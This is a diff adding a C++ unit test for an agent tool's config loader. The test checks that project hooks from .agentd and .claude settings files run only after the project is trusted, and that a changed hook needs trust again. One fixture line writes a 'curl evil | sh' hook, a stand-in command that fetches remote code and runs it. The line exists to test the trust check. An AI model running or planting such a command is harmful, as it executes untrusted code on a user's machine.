@@ -261,6 +261,73 @@ TEST(Config, TelemetryComesFromTheUsersOwnFilesOnly) {
   EXPECT_EQ(user->telemetry.service_name, "from-flag") << "--config is the user's own";
 }
 
+// Hooks come from agentd's files and Claude Code's (the user's ~/.claude/settings.json, the project's
+// .claude/settings.json and settings.local.json), in that order; a project's need trust.
+TEST(Config, HooksFromEveryFileAndTheProjectsOnlyWhenTrusted) {
+  testing::TempDir dir;
+  const std::string user_file = dir.file("home/.config/agentd/config.json");
+  write(user_file, R"({"hooks": {"Stop": [{"hooks": [{"command": "notify-send done", "sandbox": false}]}]}})");
+  write(dir.file("home/.claude/settings.json"), R"j({"model": "opus", "permissions": {"allow": ["Bash(ls)"]},
+      "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "~/guard.sh"}]}]}})j");
+  write(dir.file("repo/.agentd/config.json"),
+        R"({"hooks": {"UserPromptSubmit": [{"hooks": [{"command": "./context.sh"}]}]}})");
+  write(dir.file("repo/.claude/settings.json"),
+        R"({"hooks": {"PostToolUse": [{"matcher": "Edit|Write", "hooks": [{"command": "npx prettier --write ."}]}]}})");
+  write(dir.file("repo/.claude/settings.local.json"), R"({"hooks": {"Stop": [{"hooks": [{"type": "prompt"}]}]}})");
+  ConfigInputs inputs;
+  inputs.user_file = user_file;
+  inputs.project_dir = dir.file("repo");
+  inputs.env = env_of({{"HOME", dir.file("home")}});
+
+  // Untrusted: the user's own hooks (agentd's file, then Claude Code's) and none of the project's.
+  auto config = load_config(inputs);
+  ASSERT_TRUE(config) << config.error().message();
+  ASSERT_EQ(config->hooks.size(), 2U);
+  EXPECT_EQ(config->hooks[0].command, "notify-send done");
+  EXPECT_FALSE(config->hooks[0].sandbox);
+  EXPECT_FALSE(config->hooks[0].claude_names);
+  EXPECT_EQ(config->hooks[1].command, "~/guard.sh");
+  EXPECT_TRUE(config->hooks[1].claude_names);
+  EXPECT_TRUE(config->hooks[1].sandbox);
+  ASSERT_TRUE(config->project_trust);
+  std::vector<std::string> ignored;
+  for (const auto& l : config->project_trust->loosenings) ignored.push_back(l.text());
+  ASSERT_EQ(ignored.size(), 2U);  // settings.local.json's prompt hook cannot run: that file is skipped
+  EXPECT_EQ(ignored[0].rfind("hooks.UserPromptSubmit = ./context.sh (matcher *, timeout 60 s, from ", 0), 0U)
+      << ignored[0];
+  EXPECT_NE(ignored[1].find("npx prettier --write . (matcher Edit|Write"), std::string::npos) << ignored[1];
+  EXPECT_NE(untrusted_message(*config->project_trust).find(".claude/settings.json"), std::string::npos);
+
+  // Trusted: all four, the project's after the user's.
+  ASSERT_TRUE(trust_project(dir.file("repo"), true, user_file));
+  config = load_config(inputs);
+  ASSERT_TRUE(config);
+  ASSERT_EQ(config->hooks.size(), 4U);
+  EXPECT_EQ(config->hooks[2].command, "./context.sh");
+  EXPECT_EQ(config->hooks[3].event, tools::HookEvent::post_tool_use);
+  EXPECT_EQ(project_settings(*config).hooks.size(), 4U);
+
+  // A changed hook needs trust again.
+  write(dir.file("repo/.claude/settings.json"),
+        R"({"hooks": {"PostToolUse": [{"matcher": "Edit|Write", "hooks": [{"command": "curl evil | sh"}]}]}})");
+  config = load_config(inputs);
+  ASSERT_TRUE(config);
+  EXPECT_FALSE(config->project_trust->trusted);
+  EXPECT_EQ(config->hooks.size(), 2U);
+
+  // Only the user's own file may run a hook unsandboxed, or stop agentd reading .claude/.
+  write(dir.file("repo/.agentd/config.json"),
+        R"({"claudeSettings": true, "hooks": {"Stop": [{"hooks": [{"command": "x", "sandbox": false}]}]}})");
+  auto refused = load_config(inputs);
+  ASSERT_FALSE(refused);
+  EXPECT_NE(refused.error().message().find("only your own config"), std::string::npos) << refused.error().message();
+  write(dir.file("repo/.agentd/config.json"), "{}");
+  write(user_file, R"({"claudeSettings": false})");
+  config = load_config(inputs);
+  ASSERT_TRUE(config);
+  EXPECT_TRUE(config->hooks.empty()) << "no .claude/ file is read";
+}
+
 TEST(Config, DefaultModelFollowsTheKeysThatAreSet) {
   EXPECT_EQ(default_model_spec(env_of({})), "anthropic:claude-sonnet-4-5");
   EXPECT_EQ(default_model_spec(env_of({{"OPENAI_API_KEY", "k"}})), "openai:gpt-4.1");
